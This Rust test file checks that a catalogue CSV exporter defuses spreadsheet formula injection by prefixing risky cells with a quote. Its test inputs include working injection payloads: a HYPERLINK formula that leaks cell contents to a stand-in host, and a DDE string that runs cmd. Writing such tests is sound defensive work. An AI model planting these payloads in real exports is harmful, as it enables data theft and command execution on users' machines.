//! The CSV that the example `export_catalogue` writes.

#[path = "../examples/export_catalogue/table.rs"]
mod table;

use anyhow::Result;
use popup_rewards::Product;

/// The cells of one product's row: id, three texts, two codes, two bounds, a discount.
fn row(name: &str, category: &str, code: &str) -> Result<Vec<String>> {
    let product: Product = serde_json::from_value(serde_json::json!({
        "id": 7, "name": name, "category": category, "sub_category": name, "country_code": code, "currency_code": code,
        "available_denominations": [{ "min_value": "-5.00", "max_value": 10, "discount": -1.5 }],
    }))?;
    let mut csv = Vec::new();
    table::write(&mut csv, &[product], true)?;
    let mut rows = csv::Reader::from_reader(csv.as_slice()).into_records();
    let row = rows.next().transpose()?.unwrap_or_default();
    Ok(row.iter().map(ToOwned::to_owned).collect())
}

#[test]
fn a_text_that_looks_like_a_formula_is_no_formula_any_more() -> Result<()> {
    for text in [
        r#"=HYPERLINK("https://elsewhere.example/?x="&A1,"Acme")"#,
        "@SUM(A1:A9)",
        "+44 20 7946 0000",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\u{ff1d}1+1",
    ] {
        let quoted = format!("'{text}");
        let expected = ["7", &quoted, &quoted, &quoted, &quoted, &quoted, "-5.00", "10", "-1.5"];
        assert_eq!(row(text, text, text)?, expected, "{text:?}");
    }
    Ok(())
}

#[test]
fn other_texts_and_all_numbers_stay_as_they_are() -> Result<()> {
    let texts = ["Acme = Play, \"US\"", "'quoted'", "", "a+b", "1-2", "\u{e9}t\u{e9}"];
    for text in texts {
        let expected = ["7", text, "Games", text, "US", "US", "-5.00", "10", "-1.5"];
        assert_eq!(row(text, "Games", "US")?, expected, "{text:?}");
    }
    Ok(())
}
